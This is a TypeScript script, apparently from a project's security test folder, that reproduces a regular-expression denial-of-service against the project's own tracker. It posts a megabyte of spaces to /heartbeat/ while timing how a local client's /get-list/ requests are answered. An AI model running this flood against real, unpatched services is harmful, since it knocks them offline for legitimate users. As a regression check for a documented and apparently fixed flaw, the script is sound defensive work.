/**
 * One request that used to freeze the tracker: a `text/plain` body of spaces to `/heartbeat/`, logged through a
 * regular expression whose time grew with the square of the run. Meanwhile an honest client (127.0.0.1) asks
 * `/get-list/` every 100 ms; this prints how long its slowest answer took. docs/security/tracker.md.
 */

import { options, rssMiB, send } from './kit';

const USAGE = `Usage: npx ts-node scripts/attacks/tracker-spaces.ts [--tracker http://127.0.0.1:8000] [--kib 1024] [--from 127.0.0.2] [--pid PID]
Posts --kib KiB of spaces (text/plain) to /heartbeat/ from --from, while 127.0.0.1 lists every 100 ms.`;

async function main(): Promise<void> {
  const args = options(USAGE, { tracker: 'http://127.0.0.1:8000', kib: '1024', from: '127.0.0.2', pid: '' });
  const pid = args.pid === '' ? undefined : Number(args.pid);
  const before = rssMiB(pid);
  const body = ' '.repeat(Number(args.kib) * 1024);
  let attacking = true;
  const attack = send(args.tracker, 'POST', '/heartbeat/', body, args.from, 'text/plain').finally(() => (attacking = false));
  let slowest = 0;
  let answered = 0;
  while (attacking) {
    const { ms, status } = await send(args.tracker, 'GET', '/get-list/');
    if (status === 200) answered++;
    slowest = Math.max(slowest, ms);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  const answer = await attack;
  console.log(`attack: ${args.kib} KiB of spaces answered ${answer.status} in ${answer.ms} ms`);
  console.log(`honest /get-list/: ${answered} answers, slowest ${slowest} ms`);
  if (before !== undefined) console.log(`tracker RSS: ${before} MiB before, ${rssMiB(pid)} MiB after`);
}

main().catch((error) => {
  console.error(error);
  process.exit(1);
});
